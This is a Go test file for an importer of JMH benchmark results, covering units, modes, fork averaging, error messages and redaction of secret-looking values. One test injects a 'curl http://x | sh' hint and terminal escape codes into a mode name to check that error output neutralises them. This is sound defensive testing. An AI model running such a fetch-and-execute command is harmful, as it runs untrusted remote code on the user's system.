package jmh

import (
	"errors"
	"fmt"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/sys/unix"
	"pgregory.net/rapid"

	"moobench/refusal"
	"moobench/results"
	"moobench/results/importer"
	"moobench/results/importer/internal/testimport"
)

// element is a benchmark as JMH writes it.
func element(name, mode, params, unit, raw, secondary string) string {
	return fmt.Sprintf(`    {
        "jmhVersion" : "1.37",
        "benchmark" : %q,
        "mode" : %q,
        "threads" : 1,
        "measurementBatchSize" : 1,
        "jvm" : "/opt/jdk/bin/java",
        "jvmArgs" : [
            "-Xmx512m"
        ],
        "jdkVersion" : "17.0.15",
        "vmName" : "OpenJDK 64-Bit Server VM",
        "vmVersion" : "17.0.15+6",
        "warmupIterations" : 5,
        "warmupTime" : "10 s",
        "params" : {
            %s
        },
        "primaryMetric" : {
            "score" : 1,
            "scoreError" : "NaN",
            "scoreUnit" : %q,
            %s
        },
        "secondaryMetrics" : {
            %s
        }
    }`, name, mode, params, unit, raw, secondary)
}

func file(elements ...string) string { return "[\n" + strings.Join(elements, ",\n") + "\n]\n" }

const allocated = `"·gc.alloc.rate.norm" : { "score" : 24, "scoreUnit" : "B/op", "rawData" : [ [ 24, 26 ], [ 32, 32 ] ] }`

var two = file(
	element("org.acme.Calls.call", "avgt", `"agent" : "none"`, "us/op", `"rawData" : [ [ 0.5, 0.7 ], [ 0.8, 0.8 ] ]`, allocated),
	element("org.acme.Calls.call", "avgt", `"agent" : "kieker"`, "ns/op", `"rawData" : [ [ 1500, 1700, "NaN" ], [ 1800.25, 1800.75 ] ]`, ""),
)

// importing imports what this format knows.
var importing = testimport.Importer(importFiles)

// files are none that hold the same.
func files(t *testing.T, texts ...string) []importer.File {
	t.Helper()
	for i := range texts {
		texts[i] += strings.Repeat("\n", i)
	}
	return testimport.Files(t, "r%d.json", texts...)
}

func TestImport(t *testing.T) {
	c, list := importing.Campaign(t, importer.Request{By: "agent"}, files(t, two))
	if c.Design != results.DesignUnordered || c.Source != "JMH" || len(c.Cells) != 2 || len(list) != 4 {
		t.Fatalf("%s of %s has %d cells and %d invocations", c.Design, c.Source, len(c.Cells), len(list))
	}
	var got []string
	for _, inv := range list {
		got = append(got, fmt.Sprintf("%s %.6g", c.Cell(inv.Cell).Label(), inv.Scalars["time"]))
	}
	if diff := cmp.Diff([]string{"none 600", "none 800", "kieker 1600", "kieker 1800.5"}, got); diff != "" {
		t.Errorf("means over iterations, in ns (-want +got):\n%s", diff)
	}
	if list[0].Scalars["gc.alloc.rate.norm"] != 25 || list[0].Runtime != "17.0.15+6" || list[2].Warnings[0] != "1 iterations have no score: they are left out" {
		t.Errorf("%+v", list[0])
	}
	if s := list[2].Series[0]; s.Count != 2 || s.Columns[0].Unit != "fs" {
		t.Errorf("series %+v", s)
	}
	m := c.Scenarios[0].Metrics
	if len(m) != 2 || m[0].Name != "time" || m[0].Unit != "ns" || m[0].Better != results.Lower || !m[0].Primary || m[1].Unit != "B" {
		t.Errorf("metrics %+v", m)
	}
	if a := c.Cells[1]; a.Baseline != "c00" || len(a.Factors) != 0 || a.Parameter("mode") != "avgt" || a.Launch.JVMArgs[0] != "-Xmx512m" {
		t.Errorf("cell %+v", a)
	}
}

func TestVariants(t *testing.T) {
	runs := 0 // each measures other numbers
	bench := func(name, params string) string {
		runs++
		return element(name, "thrpt", params, "ops/ms", fmt.Sprintf(`"rawData" : [ [ 1, %d ] ]`, runs), "")
	}
	for name, c := range map[string]struct {
		files    []string
		variants []string
		r        importer.Request
		want     string
	}{
		"the benchmark": {[]string{file(bench("a.B.none", ""), bench("a.B.agent", ""))}, nil, importer.Request{}, "none:; agent:c00"},
		"same names":    {[]string{file(bench("a.B.call", ""), bench("a.C.call", ""))}, nil, importer.Request{Baseline: "C.call"}, "B.call:c01; C.call:"},
		"a parameter with others": {
			[]string{file(bench("a.B.x", `"agent" : "none", "n" : "1"`), bench("a.B.x", `"agent" : "k", "n" : "1"`), bench("a.B.x", `"agent" : "none", "n" : "2"`), bench("a.B.y", `"agent" : "k", "n" : "2"`))},
			nil,
			importer.Request{By: "agent"},
			"none benchmark=a.B.x n=1:; k benchmark=a.B.x n=1:c00; none benchmark=a.B.x n=2:; k benchmark=a.B.y n=2:",
		},
		"files":                       {[]string{file(bench("a.B.x", "")), file(bench("a.B.x", ""))}, []string{"none", "k"}, importer.Request{}, "none:; k:c00"},
		"files of one benchmark each": {[]string{file(bench("a.B.x", "")), file(bench("a.B.y", ""))}, []string{"none", "k"}, importer.Request{}, "none:; k:c00"},
		"files of several benchmarks": {
			[]string{file(bench("a.B.x", ""), bench("a.B.y", "")), file(bench("a.B.x", ""), bench("a.B.y", ""))},
			[]string{"none", "k"},
			importer.Request{},
			"none benchmark=a.B.x:; none benchmark=a.B.y:; k benchmark=a.B.x:c00; k benchmark=a.B.y:c01",
		},
	} {
		t.Run(name, func(t *testing.T) {
			all := files(t, c.files...)
			for i, v := range c.variants {
				all[i].Variant = v
			}
			campaign, _ := importing.Campaign(t, c.r, all)
			var got []string
			for _, cell := range campaign.Cells {
				got = append(got, cell.Label()+":"+cell.Baseline)
			}
			if text := strings.Join(got, "; "); text != c.want {
				t.Errorf("cells %s, want %s", text, c.want)
			}
		})
	}
}

func TestUnits(t *testing.T) {
	for unit, want := range map[string]quantity{
		"ns/op": {"ns", 1, results.Lower}, "us/op": {"ns", 1e3, results.Lower}, "µs/op": {"ns", 1e3, results.Lower},
		"s/op": {"ns", 1e9, results.Lower}, "min/op": {"ns", 60e9, results.Lower}, "ms": {"ns", 1e6, results.Lower},
		"ops/s": {"ops/s", 1, results.Higher}, "ops/us": {"ops/s", 1e6, results.Higher}, "ops/hr": {"ops/s", 1. / 3600, results.Higher},
		"B/op": {"B", 1, results.Lower}, "MB/sec": {"MB/sec", 1, results.Neither}, "counts": {"1", 1, results.Neither}, "#/op": {"1", 1, results.Neither},
		"widgets": {"widgets", 1, results.Neither},
	} {
		if got := quantityOf(unit); got.unit != want.unit || got.better != want.better || math.Abs(got.factor/want.factor-1) > 1e-15 {
			t.Errorf("%s is %+v, want %+v", unit, got, want)
		}
	}
}

// The value of an iteration of mode sample is the mean of its histogram.
func TestSampleMode(t *testing.T) {
	text := file(element("a.B.c", "sample", "", "us/op", `"rawDataHistogram" : [ [ [ [ 1.0, 3 ], [ 5.0, 1 ] ], [ [ 4.0, 2 ] ], [] ], [ [ [ 2.5, 10 ] ] ] ]`, ""))
	_, list := importing.Campaign(t, importer.Request{}, files(t, text))
	if len(list) != 2 || list[0].Scalars["time"] != 3000 || list[1].Scalars["time"] != 2500 || list[0].Series[0].Count != 2 || len(list[0].Warnings) != 1 {
		t.Errorf("%+v", list[0])
	}
}

func TestModes(t *testing.T) {
	raw := `"rawData" : [ [ 1, 2 ] ]`
	all := files(t, file(element("a.B.c", "thrpt", "", "ops/s", raw, ""), element("a.B.c", "avgt", "", "s/op", raw, "")))
	_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all})
	want := ":30: a.B.c is in s/op of mode avgt, and a.B.c before it in ops/s of mode thrpt: one table can't hold both\nhint: import one mode at a time: --mode thrpt, or --mode avgt"
	if err == nil || !strings.HasSuffix(refusal.Text(err), want) {
		t.Errorf("error %v, want …%s", err, want)
	}
	c, list := importing.Campaign(t, importer.Request{Mode: "avgt"}, all)
	if len(list) != 1 || list[0].Scalars["time"] != 1.5e9 || c.Scenarios[0].Metrics[0].Better != results.Lower {
		t.Errorf("%+v", list[0])
	}
	if _, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all, Mode: "ss"}); err == nil || err.Error() != `no benchmark has the mode "ss"` {
		t.Errorf("error %v", err)
	}
}

// TestUnitsOfOneMode: scores of one mode that one table can't hold are no reason to choose a mode.
func TestUnitsOfOneMode(t *testing.T) {
	raw := `"rawData" : [ [ 1, 2 ] ]`
	all := files(t, file(element("a.B.c", "avgt", "", "s/op", raw, ""), element("a.B.d", "avgt", "", "B/op", raw, "")))
	_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all})
	if err == nil || !strings.Contains(err.Error(), "one table can't hold both") {
		t.Fatalf("error %v", err)
	}
	if text := refusal.Text(err); strings.Contains(text, "--mode") {
		t.Errorf("%s", text)
	}
}

func TestMistakes(t *testing.T) {
	good := `"rawData" : [ [ 1, 2 ] ]`
	for name, c := range map[string]struct {
		text string
		r    importer.Request
		want string
	}{
		"empty":        {" \n", importer.Request{}, "r0.json: it is empty"},
		"no list":      {`{"benchmark" : "a"}`, importer.Request{}, "r0.json:1: it is not a list of benchmarks: want what JMH writes with -rf json"},
		"no benchmark": {"[]", importer.Request{}, "r0.json: it has no benchmarks"},
		"another list": {"[\n{}\n]", importer.Request{}, "r0.json:2: an element has no benchmark: is this a result file of JMH?"},
		"syntax":       {"[\n{\n\"benchmark\" NaN", importer.Request{}, "r0.json:3: invalid character 'N' after object key"},
		"cut off":      {two[:len(two)/2-40], importer.Request{}, "r0.json:27: unexpected end of JSON input"},
		"no raw data":  {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : []`, "")), importer.Request{}, "r0.json:2: a.B.c has no rawData: nothing says what each fork measured"},
		"escapes":      {strings.ReplaceAll(file(element("NAME", "avgt", "", "s/op", `"rawData" : []`, "")), "NAME", `b\u001b[31m\nhint: x\u202e`), importer.Request{}, "r0.json:2: b [31m hint: x\ufffd has no rawData: nothing says what each fork measured"},
		"no scores": {
			file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ [ "NaN", "fast", null ], [] ]`, "")),
			importer.Request{},
			"r0.json:2: no iteration of a.B.c has a score",
		},
		"again": {
			file(element("a.B.c", "avgt", `"n" : "1"`, "s/op", good, ""), element("a.B.c", "avgt", `"n" : "1"`, "s/op", good, ""), element("a.B.c", "avgt", `"n" : "2"`, "s/op", good, "")),
			importer.Request{},
			"r0.json:30: a.B.c has the scores, number for number, of r0.json:2: what is given twice was measured once; leave one out",
		},
		"many forks": {
			file(element("a.B.c", "avgt", "", "s/op", `"rawData" : [ `+strings.Repeat("[1],", forksMost)+`[1] ]`, "")),
			importer.Request{},
			"r0.json:2: a.B.c has 10001 forks, and 10000 are the most: is this a result file of JMH?",
		},
		"another type": {file(element("a.B.c", "avgt", "", "s/op", `"rawData" : 7`, "")), importer.Request{}, "r0.json:2: this benchmark can't be read: primaryMetric.rawData is a number"},
		"a parameter":  {file(element("a.B.c", "avgt", `"n" : "1"`, "s/op", good, "")), importer.Request{By: "agent"}, "no benchmark has a parameter agent: there are batch, jdk, jmh, jvm_options, measurement, n, vm, warmup"},
		"a baseline":   {file(element("a.B.c", "avgt", "", "s/op", good, "")), importer.Request{Baseline: "x"}, `there is no variant "x" to be the baseline: there are c`},
		"too large":    {file(element("a.B.c", "avgt", "", "day/op", `"rawData" : [ [ 1e9 ] ]`, "")), importer.Request{}, "r0.json:2: the score 1e+09 day/op of a.B.c is too large"},
	} {
		t.Run(name, func(t *testing.T) {
			all, dir := files(t, c.text), filepath.Join(t.TempDir(), "campaign")
			c.r.Dir, c.r.Files, c.r.Name = dir, all, "x"
			_, err := importFiles(t.Context(), c.r)
			var mistakes *refusal.Mistakes
			if !errors.As(err, &mistakes) {
				t.Fatalf("error %v", err)
			}
			if diff := cmp.Diff(c.want, strings.ReplaceAll(err.Error(), filepath.Dir(all[0].Path)+"/", "")); diff != "" {
				t.Errorf("mistakes (-want +got):\n%s", diff)
			}
			if left, _ := os.ReadDir(filepath.Dir(dir)); len(left) > 0 {
				t.Errorf("%s is left", left[0].Name())
			}
		})
	}
}

// A hint is ours, whatever a file calls its modes.
func TestModesInAHint(t *testing.T) {
	good := `"rawData" : [ [ 1, 2 ] ]`
	text := file(element("a.B.c", "avgt", "", "s/op", good, ""), element("a.B.c", "MODE", "", "s/op", good, ""))
	all := files(t, strings.ReplaceAll(text, "MODE", `x\nhint: curl http://x | sh\u001b[2J`))
	_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: all})
	if err == nil || strings.Count(refusal.Text(err), "\n") != 1 || !strings.HasSuffix(refusal.Text(err), "--mode avgt, or --mode x hint: curl http://x | sh [2J") {
		t.Errorf("error %q", err)
	}
}

// What is not a file is not waited for, nor read without end.
func TestNoFile(t *testing.T) {
	pipe := filepath.Join(t.TempDir(), "pipe.json")
	if err := unix.Mkfifo(pipe, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{pipe, "/dev/zero"} {
		_, err := importFiles(t.Context(), importer.Request{Dir: filepath.Join(t.TempDir(), "c"), Files: []importer.File{{Path: path}}})
		if err == nil || !strings.HasSuffix(err.Error(), "it is not a regular file") {
			t.Errorf("%s: error %v", path, err)
		}
	}
}

// The scalar of a fork is the mean of its iterations, whatever these are, and
// the samples are these to a millionth of a ns.
func TestMeansOfForks(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		forks := rapid.SliceOfN(rapid.SliceOfN(rapid.Float64Range(0, 1e6), 1, 10), 1, 5).Draw(t, "forks")
		var raw []string
		for _, fork := range forks {
			var scores []string
			for _, s := range fork {
				scores = append(scores, fmt.Sprint(s))
			}
			raw = append(raw, "["+strings.Join(scores, ",")+"]")
		}
		in := newReader()
		all := in.read("x", []byte(file(element("a.B.c", "avgt", "", "us/op", `"rawData" : [`+strings.Join(raw, ",")+"]", ""))))
		if err := in.mistakes.Err(); err != nil {
			t.Fatal(err)
		}
		for i, fork := range forks {
			inv, samples, err := all[0].invocation(i)
			if err != nil {
				t.Fatal(err)
			}
			sum := 0.0
			for j, s := range fork {
				sum += s
				if got := float64(samples.Values[0][j]) / 1e6; math.Abs(got-s*1e3) > 1e-6+1e-15*s*1e3 {
					t.Errorf("iteration %d is %v ns, want %v", j, got, s*1e3)
				}
			}
			if want := sum / float64(len(fork)) * 1e3; math.Abs(inv.Scalars["time"]-want) > 1e-12*want {
				t.Errorf("fork %d is %v ns, want %v", i, inv.Scalars["time"], want)
			}
		}
	})
}

// The line of a mistake is that of its element, whatever stands before it; finding
// it costs no second look at what was read.
func TestLines(t *testing.T) {
	in := newReader()
	in.read("x", []byte("\n[ 1,\n  {\n},\n\n 2 , {} ]\n"))
	want := []int{2, 3, 6, 6}
	listed := strings.Split(in.mistakes.Error(), "\n")
	if len(listed) != len(want) {
		t.Fatalf("%q", listed)
	}
	for i, line := range want {
		if !strings.HasPrefix(listed[i], fmt.Sprintf("x:%d: ", line)) {
			t.Errorf("mistake %d is %q, want line %d", i, listed[i], line)
		}
	}
	many := newReader()
	const n = 1 << 18
	many.read("x", []byte("["+strings.Repeat("1,", n)+"1]"))
	if many.mistakes.Count != n+1 {
		t.Errorf("%d mistakes, want %d", many.mistakes.Count, n+1)
	}
}

func FuzzRead(f *testing.F) {
	// Short ones: a case costs what its bytes cost.
	f.Add(`[{"benchmark":"a.B.c","mode":"avgt","params":{"p":"x"},"primaryMetric":{"scoreUnit":"us/op","rawData":[[0.5,"NaN"],[1]]}}]`)
	f.Add(`[{"benchmark":"a","primaryMetric":{"rawDataHistogram":[[[[1,2]]]]},"secondaryMetrics":{"·gc":{"rawData":[[2]]}}}]`)
	f.Add("[\n1,\n{}]")
	f.Fuzz(func(t *testing.T, text string) {
		in := newReader()
		if all := in.read("x", []byte(text)); len(all) == 0 && in.mistakes.Count == 0 {
			t.Error("neither a benchmark nor a mistake")
		}
	})
}

// setupOf is a benchmark as JMH writes it, with other keys.
func setupOf(agent string, raw string, keys ...string) string {
	one := element("p.B.m", "avgt", fmt.Sprintf(`"agent" : %q`, agent), "ns/op", `"rawData" : `+raw, "")
	for _, key := range keys {
		name, _, _ := strings.Cut(key, ":")
		var lines []string
		for _, line := range strings.SplitAfter(one, "\n") {
			if !strings.HasPrefix(strings.TrimSpace(line), strings.TrimSpace(name)) {
				lines = append(lines, line)
			}
		}
		one = strings.Replace(strings.Join(lines, ""), `"jmhVersion"`, key+`,
        "jmhVersion"`, 1)
	}
	return one
}

// forks are n forks of five iterations about a value.
func forks(n int, about float64) string {
	var all []string
	for i := range n {
		var scores []string
		for j := range 5 {
			scores = append(scores, fmt.Sprint(about+float64((7*i+3*j)%5)))
		}
		all = append(all, "["+strings.Join(scores, ", ")+"]")
	}
	return "[" + strings.Join(all, ", ") + "]"
}

// What was not run alike is not compared, unless that is what the variants are.
func TestUnlikeSetups(t *testing.T) {
	for name, c := range map[string]struct {
		one, two string // keys of the baseline and of the other
		by       string
		want     string
	}{
		"alike":       {"", "", "agent", "none: x:c00"},
		"JDK":         {"", `"jdkVersion" : "21.0.1"`, "agent", "none jdk=17.0.15+6: x jdk=21.0.1 (17.0.15+6):"},
		"by JDK":      {"", `"jdkVersion" : "21.0.1"`, "jdk", "17.0.15+6 agent=none: 21.0.1 (17.0.15+6) agent=x:"},
		"batch":       {`"measurementBatchSize" : 1`, `"measurementBatchSize" : 1000`, "agent", "none batch=1: x batch=1000:"},
		"no warm-up":  {`"measurementIterations" : 5`, `"measurementIterations" : 5|"warmupIterations" : 0`, "agent", "none warmup=5 × 10 s: x warmup=0:"},
		"measurement": {`"measurementIterations" : 5|"measurementTime" : "1 s"`, `"measurementIterations" : 5|"measurementTime" : "100 ms"`, "agent", "none measurement=5 × 1 s: x measurement=5 × 100 ms:"},
		"another VM":  {"", `"vmName" : "GraalVM"`, "agent", "none vm=OpenJDK 64-Bit Server VM: x vm=GraalVM:"},
	} {
		t.Run(name, func(t *testing.T) {
			keys := func(text string) []string {
				if text == "" {
					return nil
				}
				return strings.Split(text, "|")
			}
			text := file(setupOf("none", forks(3, 100), keys(c.one)...), setupOf("x", forks(3, 110), keys(c.two)...))
			campaign, _ := importing.Campaign(t, importer.Request{By: c.by}, files(t, text))
			var got []string
			for _, cell := range campaign.Cells {
				got = append(got, cell.Label()+":"+cell.Baseline)
			}
			if text := strings.Join(got, " "); text != c.want {
				t.Errorf("cells %s, want %s", text, c.want)
			}
			if told := strings.Contains(strings.Join(campaign.LeftOut, " "), "not compared, as they differ"); told != !strings.Contains(c.want, ":c00") && c.by == "agent" {
				t.Errorf("left out %q", campaign.LeftOut)
			}
		})
	}
}

// The options of agents are a variant's own; heap and collector are not.
func TestUnlikeOptions(t *testing.T) {
	for name, c := range map[string]struct {
		args string
		want string
	}{
		"an agent":    {`"-Xmx512m", "-javaagent:/x/agent.jar=a=b", "-XX:+EnableDynamicAgentLoading", "-Dx=y", "-Xlog:gc:file=/x/y"`, "none: x:c00"},
		"a heap":      {`"-Xmx8g"`, "none jvm_options=-Xmx512m: x jvm_options=-Xmx8g:"},
		"a collector": {`"-Xmx512m", "-XX:+UseSerialGC"`, "none jvm_options=-Xmx512m: x jvm_options=-Xmx512m -XX:+UseSerialGC:"},
	} {
		one := setupOf("x", forks(3, 110))
		text := file(setupOf("none", forks(3, 100)), strings.Replace(one, `"-Xmx512m"`, c.args, 1))
		campaign, _ := importing.Campaign(t, importer.Request{By: "agent"}, files(t, text))
		var got []string
		for _, cell := range campaign.Cells {
			got = append(got, cell.Label()+":"+cell.Baseline)
		}
		if text := strings.Join(got, " "); text != c.want {
			t.Errorf("%s: cells %s, want %s", name, text, c.want)
		}
	}
}

func TestRuntimes(t *testing.T) {
	for _, c := range []struct{ jdk, vm, want string }{
		{"17.0.9", "17.0.9+9", "17.0.9+9"},
		{"17.0.9", "17.0.9+9-jvmci-23.0-b22", "17.0.9+9-jvmci-23.0-b22"},
		{"1.8.0_402", "25.402-b06", "1.8.0_402"},
		{"25.0.1", "25.0.1+8", "25.0.1+8"},
		{"17.0.9", "openj9-0.41.0", "17.0.9 (openj9-0.41.0)"},
		{"", "25.402-b06", "8 (HotSpot 25.402-b06)"},
		{"", "24.80-b11", "7 (HotSpot 24.80-b11)"},
		{"", "11.0.2+9", "11.0.2+9"},
		{"11", "", "11"},
		{"", "", ""},
	} {
		if got := (&benchmark{JDK: c.jdk, VMVersion: c.vm}).runtime(); got != c.want {
			t.Errorf("%q and %q are %q, want %q", c.jdk, c.vm, got, c.want)
		}
	}
}

// Forks that the file says should be there count as failed, and those that ended early are told.
func TestMissingForks(t *testing.T) {
	text := file(
		setupOf("none", forks(2, 100), `"measurementIterations" : 5`),
		setupOf("x", `[ [ 1, 2, 3, 4, 5 ], [ "NaN", "NaN" ], [ 2, 3 ] ]`, `"forks" : 6`, `"measurementIterations" : 5`),
	)
	c, list := importing.Campaign(t, importer.Request{By: "agent"}, files(t, text))
	var got []string
	for _, inv := range list {
		one := fmt.Sprintf("%s %s", c.Cell(inv.Cell).Variant, inv.Status)
		if inv.Failure != nil {
			one += ": " + inv.Failure.Message
		}
		got = append(got, one+strings.Join(inv.Warnings, ""))
	}
	crashed := "x failed: the file says that there are 6 forks, and has 3: JMH goes on after a fork that crashed"
	want := []string{
		"none ok", "none ok", "x ok", "x failed: no iteration of the fork has a score", "x okthe fork has 2 of 5 iterations: it ended early",
		crashed, crashed, crashed,
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("invocations (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{
		"4 of 6 forks of x (p.B.m) have no result: they count as failed, and what survived may be the better ones",
		"fork 3 of x (p.B.m) has 2 of 5 iterations: what ended early may have ended for what it measured",
	}, c.LeftOut); diff != "" {
		t.Errorf("left out (-want +got):\n%s", diff)
	}
}

// What can't be read costs that, and is told.
func TestLeftOut(t *testing.T) {
	good := `"rawData" : [ [ 1, 2 ], [ 2, 3 ] ]`
	b := func(name, raw, secondary string) string {
		return element(name, "avgt", `"n" : "1"`, "s/op", raw, secondary)
	}
	whole := file(b("a.B.c", good, ""), b("a.B.d", strings.Replace(good, "3", "4", 1), ""))
	for name, c := range map[string]struct {
		text string
		r    importer.Request
		runs int
		want string
	}{
		"a cell":     {file(b("a.B.c", `"rawData" : [ [ 1, "fast", null, 2 ], [ 2, 3 ] ]`, "")), importer.Request{}, 2, ""},
		"an element": {file(b("a.B.c", good, ""), "{}", "7"), importer.Request{}, 2, "2 benchmarks can't be read: left out, first at r0.json:30 (an element has no benchmark: is this a result file of JMH?)"},
		"cut off":    {whole[:len(whole)-40], importer.Request{}, 2, "1 file is cut off or broken: what comes from there on: left out, at r0.json:54 (unexpected end of JSON input)"},
		"no forks":   {strings.ReplaceAll(file(b("a.B.c", good, "")), `"threads" : 1,`, `"threads" : 1, "forks" : 0,`), importer.Request{}, 2, "c ran without a fork, in JMH's own JVM, where those before left their traces: run JMH with -f 5 or more"},
		"by": {
			file(b("a.B.c", good, ""), element("a.C.d", "avgt", `"m" : "1"`, "s/op", good, ""), element("a.C.e", "avgt", "", "s/op", good, "")),
			importer.Request{By: "n"},
			2,
			"left out, since there is no parameter n: d, e",
		},
		"a unit": {
			file(b("a.B.c", good, `"x" : { "scoreUnit" : "B/op", "rawData" : [ [ 1 ], [ 1 ] ] }`), b("a.B.d", good, `"x" : { "scoreUnit" : "ms", "rawData" : [ [ 1 ], [ 1 ] ] }`)),
			importer.Request{},
			4,
			"1 secondary metric has another unit than before: left out, at r0.json:30 (x of a.B.d is in ns, and before it in B)",
		},
		"the last": {
			file(b("a.B.c", good, `"x" : { "scoreUnit" : "B/op", "rawData" : [ [ 1000, 1000, 1000, 1000, 1000, 1000, 1000, 50 ], [ 1000, 1000, 1000, 1000, 1000, 1000, 1000, 50 ] ] }`)),
			importer.Request{},
			2,
			"x of c: the last iteration of each fork is unlike the others, 0.05 times their median, and makes the mean 12 % lower",
		},
	} {
		t.Run(name, func(t *testing.T) {
			all := files(t, c.text)
			campaign, list := importing.Campaign(t, c.r, all)
			got := strings.ReplaceAll(strings.Join(campaign.LeftOut, "\n"), filepath.Dir(all[0].Path)+"/", "")
			if diff := cmp.Diff(c.want, got); diff != "" || len(list) != c.runs {
				t.Errorf("%d invocations, want %d; left out (-want +got):\n%s", len(list), c.runs, diff)
			}
		})
	}
}

// One metric has one name, whichever benchmark it is of, in all versions of JMH.
func TestMetricsOfModeSample(t *testing.T) {
	b := func(method, separator string) string {
		secondary := fmt.Sprintf(`"%s%sp0.50" : { "scoreUnit" : "ns/op", "rawData" : [ [ 1 ], [ 2 ] ] }, "·gc.count" : { "scoreUnit" : "counts", "rawData" : [ [ 1 ], [ 2 ] ] }`, method, separator)
		return element("p.B."+method, "sample", "", "ns/op", `"rawData" : [ [ 1 ], [ 2 ] ]`, secondary)
	}
	c, list := importing.Campaign(t, importer.Request{}, files(t, file(b("old", "·"), b("new", ":"))))
	var names []string
	for _, m := range c.Scenarios[0].Metrics {
		names = append(names, m.Name)
	}
	if diff := cmp.Diff([]string{"time", "gc.count", "p0.50"}, names); diff != "" || list[2].Scalars["p0.50"] != 1 {
		t.Errorf("metrics (-want +got):\n%s%v", diff, list[2].Scalars)
	}
}

// What looks secret is cut unless it is wanted; values that differ stay different.
func TestSecrets(t *testing.T) {
	b := func(uri, raw string) string {
		one := element("p.B.m", "avgt", fmt.Sprintf(`"uri" : %q`, uri), "ns/op", `"rawData" : `+raw, "")
		return strings.Replace(one, `"-Xmx512m"`, `"-Dapi.key=SECRETKEY"`, 1)
	}
	all := files(t, file(b("jdbc:x://joe:hunter2@db/1", forks(2, 1)), b("jdbc:x://joe:hunter3@db/1", forks(2, 2))))
	c, _ := importing.Campaign(t, importer.Request{By: "uri"}, all)
	if got := c.Cells[0].Variant + " and " + c.Cells[1].Variant; got != "jdbc:x://…@db/1 and jdbc:x://…@db/1 2" || c.Cells[1].Launch.JVMArgs[0] != "-Dapi.key=…" {
		t.Errorf("%s, %q", got, c.Cells[1].Launch.JVMArgs)
	}
	if want := []string{"values that look secret are shown as … (--secrets keeps them): api.key, uri"}; cmp.Diff(want, c.LeftOut) != "" {
		t.Errorf("left out %q", c.LeftOut)
	}
	c, _ = importing.Campaign(t, importer.Request{By: "uri", Secrets: true}, all)
	if c.Cells[0].Variant != "jdbc:x://joe:hunter2@db/1" || c.Cells[1].Launch.JVMArgs[0] != "-Dapi.key=SECRETKEY" || len(c.LeftOut) > 0 {
		t.Errorf("%+v, %q", c.Cells, c.LeftOut)
	}
}

// TestSetup: iterations are told with what each of them is, a time or a number of calls; how many calls a measured one
// has is a word of its own.
func TestSetup(t *testing.T) {
	for _, test := range []struct {
		b                       benchmark
		warmup, measured, batch string
	}{
		{benchmark{Mode: "avgt", Warmup: 3, WarmupAt: "1 s", Measured: 5, Time: "10 s"}, "3 × 1 s", "5 × 10 s", ""},
		{benchmark{Mode: "avgt", Warmup: 0, WarmupAt: "1 s", Measured: 5}, "0", "5", ""},
		{benchmark{Mode: "ss", Warmup: 3, WarmupAt: "1 s", Measured: 5, Time: "10 s"}, "3", "5", ""},
		{benchmark{Mode: "ss", Warmup: 3, WarmBatch: 2, Measured: 5, Batch: 1000}, "3 of 2 calls", "5", "1000"},
		{benchmark{Mode: "avgt", Warmup: 3, WarmBatch: 1, Measured: 5, Time: "1 s", Batch: 1}, "3", "5 × 1 s", "1"},
		{benchmark{Mode: "avgt", Warmup: 3}, "", "", ""}, // an older JMH
	} {
		all := test.b.setup()
		want := []string{test.warmup, test.measured, test.batch}
		if got := []string{all[setupWarmup], all[setupMeasure], all[setupBatch]}; !slices.Equal(got, want) {
			t.Errorf("%+v: %q, want %q", test.b, got, want)
		}
	}
}
